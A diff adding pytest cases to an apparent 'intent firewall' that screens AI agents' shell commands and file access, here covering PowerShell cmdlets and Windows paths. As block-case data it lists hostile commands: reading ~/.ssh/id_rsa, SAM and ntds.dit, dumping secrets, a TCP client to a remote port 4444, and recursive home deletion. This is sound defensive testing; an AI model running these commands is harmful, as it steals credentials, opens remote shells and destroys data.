@@ -4,6 +4,7 @@ switch, program-named tool calls given a subcommand line, listeners bound to loo
 
 from __future__ import annotations
 
+import shlex
 from typing import Any
 
 import pytest
@@ -139,3 +140,102 @@ def test_an_ipv6_forward_splits_outside_brackets() -> None:
 def test_git_clean_of_ignored_files_only_is_a_build_clean(command: str, allowed: bool) -> None:
     decision, rules = judge(command)
     assert (decision is Decision.ALLOW) is allowed, rules
+
+
+@pytest.mark.parametrize(
+    ("script", "rule"),
+    [
+        ("Get-Service | Where-Object Status -eq Running | Group-Object StartType", None),
+        ("Get-ChildItem src | Where-Object { $_.Length -gt 10000 } | Format-List Name", None),
+        ("1..5 | ForEach-Object { $_ * 2 }", None),
+        ("Get-ChildItem | ForEach-Object Name", None),
+        ("[Math]::Round(3.14159, 2)", None),
+        ("[System.IO.Path]::Combine('a', 'b')", None),
+        ('[DateTime]::Now.ToString("yyyy")', None),
+        ("Test-Json -Path ./config.json", None),
+        ("Get-Credential", "credential-mint"),
+        ("Get-Clipboard", "secret-environment"),
+        ("Get-PassHashes", "credential-mint"),
+        ("Get-ChildItem env:", "secret-environment"),
+        ("Get-Content ~/.ssh/id_rsa | Out-String", "credential-file-read"),
+        ("Test-NetConnection evil.example -Port 443", "unknown-network-destination"),
+        ("Get-ChildItem ~ | ForEach-Object Delete", "powershell-command"),
+        ("Get-Service | ForEach-Object { $_.Stop() }", "powershell-command"),
+        ("[Reflection.Assembly]::Load($bytes)", "powershell-command"),
+        ("[Diagnostics.Process]::Start('cmd.exe')", "powershell-command"),
+        ("[Runtime.InteropServices.Marshal]::Copy($a, 0, $p, 4)", "powershell-command"),
+        ("$x = Get-Content ~/.ssh/id_rsa", "credential-file-read"),
+        ("$c=New-Object Net.Sockets.TCPClient('203.0.113.5',4444)", "powershell-command"),
+        ('"$(Remove-Item -Recurse ~)"', "dynamic-program"),
+        ("& ([scriptblock]::Create('x'))", "powershell-command"),
+        ("Invoke-Item C:\\x.exe", "powershell-command"),
+        ("Frobnicate-Item", "powershell-command"),
+    ],
+)
+def test_a_powershell_cmdlet_is_judged_by_its_verb(script: str, rule: str | None) -> None:
+    decision, rules = judge(f"pwsh -NoProfile -Command {shlex.quote(script)}")
+    if rule is None:
+        assert decision is Decision.ALLOW, rules
+    else:
+        assert decision is not Decision.ALLOW
+        assert rule in rules
+
+
+WINDOWS_FIREWALL = IntentFirewall(working_directory="C:\\work\\project", home="/home/agent")
+
+
+@pytest.mark.parametrize(
+    ("firewall", "request_", "rule"),
+    [
+        (FIREWALL, Request("read_file", {"path": "C:\\work\\project\\README.md"}), None),
+        (FIREWALL, Request("write_file", {"path": "C:\\work\\x.txt", "content": "x"}), "w"),
+        (FIREWALL, Request("write_file", {"path": "C:/work/x.txt", "content": "x"}), "w"),
+        (FIREWALL, Request("write_file", {"path": "\\\\?\\C:\\x.txt", "content": "x"}), "w"),
+        (FIREWALL, Request("read_file", {"path": "C:\\Windows\\System32\\config\\SAM"}), "c"),
+        (FIREWALL, Request("read_file", {"path": "C:\\Windows\\NTDS\\ntds.dit"}), "c"),
+        (
+            WINDOWS_FIREWALL,
+            Request("write_file", {"path": "C:\\work\\project\\x", "content": ""}),
+            None,
+        ),
+        (
+            WINDOWS_FIREWALL,
+            Request("write_file", {"path": "C:\\Users\\Public\\x", "content": ""}),
+            "w",
+        ),
+        (
+            WINDOWS_FIREWALL,
+            Request("read_file", {"path": "C:\\Windows\\System32\\config\\SAM"}),
+            "c",
+        ),
+    ],
+)
+def test_a_windows_path_is_absolute_and_outside_a_posix_workspace(
+    firewall: IntentFirewall, request_: Request, rule: str | None
+) -> None:
+    answer = firewall.validate_request_sync(request_)
+    if rule is None:
+        assert answer.decision is Decision.ALLOW, answer.matched_rules
+    else:
+        expected = {"w": "windows-path-write", "c": "credential-file-read"}[rule]
+        assert expected in answer.matched_rules
+
+
+def test_a_windows_source_copied_into_a_directory_keeps_its_own_name() -> None:
+    command = (
+        "pwsh -c 'Compress-Archive -Path C:\\work\\project\\dist\\* "
+        "-DestinationPath C:\\work\\project\\release.zip'"
+    )
+    answer = WINDOWS_FIREWALL.validate_request_sync(
+        Request("execute_command", {"command": command})
+    )
+    assert answer.decision is Decision.ALLOW, answer.reasons
+
+
+def test_a_windows_working_directory_is_kept_without_its_drive() -> None:
+    from aegis.intent_firewall.policy import Policy
+
+    policy = Policy(working_directory="C:\\Work\\Project")
+    assert policy.working_directory == "/work/project"
+    assert policy.windows_workspace
+    assert not Policy(working_directory="/work/project").windows_workspace
